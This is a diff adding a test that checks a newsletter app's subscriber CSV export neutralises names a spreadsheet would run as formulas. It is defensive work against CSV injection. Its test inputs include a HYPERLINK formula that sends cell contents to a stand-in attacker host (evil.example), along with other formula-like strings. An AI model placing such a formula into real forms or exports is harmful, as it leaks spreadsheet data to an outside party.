@@ -96,3 +96,29 @@ def test_export_is_a_csv_of_everyone_for_organizers_only(app, client, organizer,
     assert response.mimetype == "text/csv"
     assert rows[0].startswith("email,name,county,status,source,consent_at")
     assert len(rows) == 4 and any(",unsubscribed," in r for r in rows)
+
+
+def test_export_neutralises_names_that_spreadsheets_would_run_as_formulas(app, client, organizer,
+                                                                         sign_in):
+    import csv
+
+    hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1 555 0100", "-2+3",
+               "@SUM(A1:A9)"]
+    for n, name in enumerate(hostile):  # typed into the public subscribe form
+        client.post("/newsletter/subscribe", data={"email": f"hostile{n}@example.org", "name": name,
+                                                   "county_id": "0"})
+    for n, name in enumerate(["\t=1+1", "\r=1+1"]):  # however such a name got in (an old import)
+        db.session.add(Subscriber(email=f"control{n}@example.org", name=name, status="pending",
+                                  source="import"))
+    db.session.add(Subscriber(email="plain@example.org", name="Ana García-López", status="pending",
+                              source="form"))
+    db.session.commit()
+    sign_in(organizer)
+    rows = list(csv.reader(io.StringIO(
+        client.get("/newsletters/manage/subscribers.csv").get_data(as_text=True))))
+    names = {row[0]: row[1] for row in rows[1:]}
+    for n, name in enumerate(hostile):
+        assert names[f"hostile{n}@example.org"] == "'" + name
+    assert names["control0@example.org"] == "'\t=1+1"
+    assert names["control1@example.org"] == "'\r=1+1"
+    assert names["plain@example.org"] == "Ana García-López"  # a hyphen inside is left alone
